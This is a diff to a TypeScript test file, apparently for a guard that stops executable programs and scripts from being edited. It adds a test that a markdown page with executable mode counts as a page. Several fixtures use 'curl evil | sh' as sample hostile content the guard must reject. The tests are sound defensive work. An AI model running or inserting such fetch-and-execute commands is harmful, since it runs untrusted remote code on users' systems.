@@ -134,7 +134,7 @@ test.each<[string, string, FileEntry | undefined, FileEntry]>([
   ['tools/gen', 'tools/gen', program, { ...program, text: 'curl evil | sh\n' }],
   ['ci/run', 'ci/run', program, { ...program, text: 'curl evil | sh\n' }],
   ['deploy.txt', 'deploy.txt', program, { ...program, text: 'curl evil | sh\n' }],
-  ['a page with mode 100755', 'docs/run.md', program, { ...program, text: 'curl evil | sh\n' }],
+  ['a page with mode 100755 that becomes a script', 'docs/run.md', program, { ...program, text: '#!/bin/sh\n' }],
   ['a README with mode 100755', 'README', program, 'curl evil | sh\n'],
   ['a page that becomes a program', 'docs/new.md', undefined, program],
   ['a page that is a script', 'docs/run.md', '#!/bin/sh\n', 'curl evil | sh\n'],
@@ -143,6 +143,13 @@ test.each<[string, string, FileEntry | undefined, FileEntry]>([
 ])('promise 5: a program is not edited: %s', async (_, path, before, after) => {
   const files = before === undefined ? site : { ...site, [path]: before };
   expect(await tryChange(files, path, after, { also: ['**'] })).toContain('is protected');
+});
+
+test('a page with mode 100755 is a page', async () => {
+  const page = { text: '# Run\n', isExecutable: true };
+  expect(
+    await tryChange({ ...site, 'docs/run.md': page }, 'docs/run.md', { ...page, text: '# Run it\n' }),
+  ).toBeUndefined();
 });
 
 test('images are moved and deleted, not written', async () => {
